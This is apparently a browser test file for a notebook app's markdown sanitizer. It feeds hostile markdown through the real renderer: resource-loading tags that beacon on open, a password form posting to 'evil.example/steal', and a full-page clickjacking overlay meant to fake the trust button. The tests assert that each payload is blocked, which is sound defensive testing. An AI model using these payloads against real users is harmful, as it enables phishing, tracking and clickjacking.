/**
 * Hostile markdown in notebooks (imported files, share links): next to the XSS tests of
 * app-shell.test.ts, the payloads that tried to clickjack the trust gate, reach the network
 * on open, or ask for a password. Each is rendered by the real sanitizer and, where it matters,
 * inside the real app under the app's Content-Security-Policy.
 */
import { assert } from '@esm-bundle/chai';
import { sendMouse } from '@web/test-runner-commands';
import { codeNotebook, freshStore, mountApp, settle, unmountAll, view, type App } from './appHarness.ts';
import { markdownReady, renderMarkdown } from '../../../cells/kinds/markdown.ts';
import { exportNotebookFile } from '../../../src/notebook/notebookFile.ts';
import type { NotebookDocument } from '../../../src/notebook/notebookDocument.ts';

const DB = 't5lab-test-app-hostile-markdown';
/** A URL on this origin: if anything fetched it, Resource Timing would list it. */
const probe = (name: string) => `${location.origin}/__t5lab-leak-probe/${name}.png`;
const EVIL = 'https://evil.example';

/** Every payload that must not load anything, keyed by what it tries. */
const EXTERNAL: Record<string, string> = {
  'img src': `<img src="${probe('img')}" alt="cat"><img src="${EVIL}/img.png">`,
  'markdown image': `![cat](${probe('md-img')})`,
  srcset: `<img srcset="${probe('srcset')} 1x, ${EVIL}/s.png 2x">`,
  'picture source': `<picture><source srcset="${probe('picture')}"><img src="${probe('picture-img')}"></picture>`,
  'video poster': `<video poster="${probe('poster')}" src="${probe('video')}"></video>`,
  audio: `<audio src="${probe('audio')}" autoplay></audio>`,
  'css url() in style attribute': `<div style="background:url(${probe('css-attr')})">x</div>`,
  'css url() in <style>': `<style>@import url(${probe('css-import')}); body{background:url(${probe('css-style')})}</style>`,
  link: `<link rel="stylesheet" href="${probe('link')}"><link rel="prefetch" href="${probe('prefetch')}">`,
  iframe: `<iframe src="${probe('iframe')}"></iframe>`,
  object: `<object data="${probe('object')}"></object><embed src="${probe('embed')}">`,
  'svg image href': `<svg><image href="${probe('svg-image')}"/><image xlink:href="${probe('svg-xlink')}"/></svg>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${probe('meta')}">`,
  'input type=image': `<input type="image" src="${probe('input-image')}">`,
  'table background': `<table background="${probe('table-bg')}"><tr><td>x</td></tr></table>`,
  'a ping': `<a href="https://example.org/" ping="${probe('ping')}">link</a>`,
  'math href': `<math href="${probe('math')}"><mi>x</mi></math>`,
};

const OVERLAY = [
  // The attack of issue 11: a full-page overlay that hides the banner and fakes its button.
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;pointer-events:none">',
  '<button style="position:fixed;top:90px;right:30px">Continue reading</button></div>',
  '<style>:host, .banner { display: none !important } * { pointer-events: none }</style>',
  '<div style="position:absolute;top:-500px;left:0;width:3000px;height:3000px;background:red">cover</div>',
].join('\n');

const FORM = `<form action="${EVIL}/steal" method="post"><label>Password <input type="password" name="p"></label>
<textarea name="t"></textarea><select><option>a</option></select><button formaction="${EVIL}/b">Log in</button></form>`;

function fragmentOf(html: string): DocumentFragment {
  const t = document.createElement('template');
  t.innerHTML = html;
  return t.content;
}

/** Attribute values (except a blocked image's explanatory title) that name `needle`. */
function urlsIn(root: ParentNode, needle: string): string[] {
  return [...root.querySelectorAll('*')].flatMap((e) =>
    [...e.attributes]
      .filter((a) => a.name !== 'title' && !(e.tagName === 'A' && a.name === 'href') && a.value.includes(needle))
      .map((a) => `<${e.tagName.toLowerCase()} ${a.name}="${a.value}">`),
  );
}

function probesFetched(): string[] {
  return performance
    .getEntriesByType('resource')
    .map((e) => e.name)
    .filter((n) => n.includes('__t5lab-leak-probe'));
}

function untrustedNotebook(markdown: string): NotebookDocument {
  const nb = codeNotebook({ mark: 'mark = (window.__clickjacked = 1)' }, { id: 'hostile', title: 'Hostile', trusted: false });
  return { ...nb, cells: [{ id: 'md', kind: 'markdown', params: { source: markdown } }, ...nb.cells] };
}

async function importHostile(markdown: string): Promise<App> {
  const { session } = await freshStore(DB);
  const s = session();
  const app = await mountApp({ session: s });
  await s.start();
  await app.importFiles([new File([exportNotebookFile(untrustedNotebook(markdown))], 'hostile.t5lab.json')]);
  await app.updateComplete;
  await view(app).updateComplete;
  const md = view(app).cellElement('md')!;
  await md.updateComplete;
  return app;
}

function center(el: Element): { x: number; y: number } {
  const r = el.getBoundingClientRect();
  return { x: Math.round(r.left + r.width / 2), y: Math.round(r.top + r.height / 2) };
}

describe('hostile markdown', () => {
  before(() => markdownReady);
  afterEach(unmountAll);
  afterEach(() => delete (window as unknown as { __clickjacked?: number }).__clickjacked);

  for (const [what, payload] of Object.entries(EXTERNAL)) {
    it(`${what}: the sanitized markdown names no URL that would load`, () => {
      const out = fragmentOf(renderMarkdown(payload));
      assert.deepEqual(urlsIn(out, '__t5lab-leak-probe'), []);
      assert.deepEqual(urlsIn(out, 'evil.example'), []);
      assert.isNull(
        out.querySelector(
          'link, meta, iframe, object, embed, svg, image, video, audio, source, picture, style, input, [style], [srcset], [poster], [background], [ping]',
        ),
      );
    });
  }

  it('an untrusted notebook with every external-resource payload requests nothing when it opens', async () => {
    const before = probesFetched().length;
    const app = await importHostile(Object.values(EXTERNAL).join('\n\n'));
    await settle(400);
    assert.deepEqual(probesFetched().slice(before), [], 'no probe URL was requested');
    const md = view(app).cellElement('md')!.shadowRoot!;
    const img = md.querySelector('img[data-blocked]') as HTMLImageElement;
    assert.ok(img, 'an external image is shown as its alt text');
    assert.equal(img.getAttribute('alt'), 'cat (external image not loaded)');
    assert.isFalse(img.hasAttribute('src'));
    assert.equal(md.querySelector('a')?.getAttribute('rel'), 'noopener noreferrer', 'a link stays clickable, opening without a referrer');
  });

  it('the page runs under a Content-Security-Policy that blocks images from other sites', async () => {
    const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
      document.addEventListener('securitypolicyviolation', resolve, { once: true }),
    );
    const img = new Image();
    img.src = `${EVIL}/csp-probe.png`;
    const v = await violation;
    assert.equal(v.effectiveDirective, 'img-src');
    assert.include(v.blockedURI, 'evil.example');
  });

  it('forms, password fields and buttons are removed; their text stays', () => {
    const html = renderMarkdown(FORM);
    const out = fragmentOf(html);
    assert.isNull(out.querySelector('form, input, textarea, select, option, button'));
    assert.notInclude(html, 'evil.example');
    assert.include(out.textContent, 'Password');
  });

  it('style elements and style attributes are removed, in HTML, SVG and MathML alike', () => {
    const html = renderMarkdown(
      `${OVERLAY}\n\n<svg><style>*{display:none}</style></svg><math><mi><style>*{color:red}</style></mi></math>\n\n$x^2$`,
    );
    const out = fragmentOf(html);
    assert.isNull(out.querySelector('style, [style]'));
    assert.notMatch(html, /position\s*:\s*(fixed|absolute)/);
    assert.ok(out.querySelector('math'), 'math still renders');
  });

  it('an inline data: image is kept (it needs no request)', () => {
    const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    const out = fragmentOf(renderMarkdown(`![dot](${png})`));
    assert.equal(out.querySelector('img')?.getAttribute('src'), png);
  });

  it('a markdown cell paints only inside its own box, even if something positioned got past the sanitizer', async () => {
    const app = await importHostile('# Title\n\nsome text');
    const md = view(app).cellElement('md')!.shadowRoot!.querySelector('.md') as HTMLElement;
    // Simulate a sanitizer miss: put the overlay straight into the cell's DOM.
    md.insertAdjacentHTML('beforeend', '<div id="escape" style="position:fixed;inset:0;z-index:2147483647;background:red"></div>');
    const box = md.getBoundingClientRect();
    const escape = md.querySelector('#escape')!.getBoundingClientRect();
    assert.isAtLeast(escape.top, box.top - 0.5);
    assert.isAtLeast(escape.left, box.left - 0.5);
    assert.isAtMost(escape.bottom, box.bottom + 0.5);
    assert.isAtMost(escape.right, box.right + 0.5);
    const style = getComputedStyle(md);
    assert.include(style.contain, 'paint');
    assert.equal(style.overflow, 'hidden');
  });

  it('the overlay payload cannot hide or cover the trust banner, and real clicks on it never trust the notebook', async () => {
    const app = await importHostile(OVERLAY);
    const root = app.shadowRoot!;
    const trust = root.querySelector('[data-action="trust"]') as HTMLButtonElement;
    assert.ok(trust, 'the trust banner is shown');
    assert.notEqual(getComputedStyle(root.querySelector('[data-banner="trust"]')!).display, 'none');
    trust.scrollIntoView({ block: 'center' });
    await settle(50);
    const at = center(trust);
    assert.equal(root.elementFromPoint(at.x, at.y), trust, 'nothing from the notebook lies over the trust button');

    // A real click (the browser's own mouse) on the banner's button only opens the dialog.
    await sendMouse({ type: 'click', position: [at.x, at.y] });
    await settle(100);
    const dialogEl = root.querySelector('t5-trust-dialog')!;
    const dialog = dialogEl.shadowRoot!.querySelector('dialog')!;
    assert.isTrue(dialog.open, 'the click opened the trust dialog');
    assert.isTrue(dialog.matches(':modal'), 'the dialog is modal (top layer: above anything the page can draw)');
    assert.isFalse(app.notebook!.trusted, 'one click did not trust');
    assert.include(
      dialog.querySelector('[data-trust-cells]')!.textContent,
      'window.__clickjacked',
      'the dialog lists the code that would run',
    );

    // A second click where the confirmation sits does nothing until the box is ticked.
    const confirm = dialogEl.shadowRoot!.querySelector('[data-action="confirm-trust"]') as HTMLButtonElement;
    assert.isTrue(confirm.disabled);
    const c = center(confirm);
    await sendMouse({ type: 'click', position: [c.x, c.y] });
    await settle(100);
    assert.isFalse(app.notebook!.trusted, 'two clicks did not trust');
    // Outside the dialog the page is inert: a click on the banner (under the backdrop) does nothing.
    const bannerAt = center(root.querySelector('[data-banner="trust"] span')!);
    await sendMouse({ type: 'click', position: [bannerAt.x, bannerAt.y] });
    await settle(100);
    assert.isFalse(app.notebook!.trusted);
    assert.isUndefined((window as unknown as { __clickjacked?: number }).__clickjacked, 'the code never ran');
    dialogEl.shadowRoot!.querySelector<HTMLButtonElement>('[data-action="cancel-trust"]')!.click();
    await settle(20);
    assert.isFalse(dialog.open);
    assert.isFalse(app.notebook!.trusted, 'cancelling does not trust');
  });
});
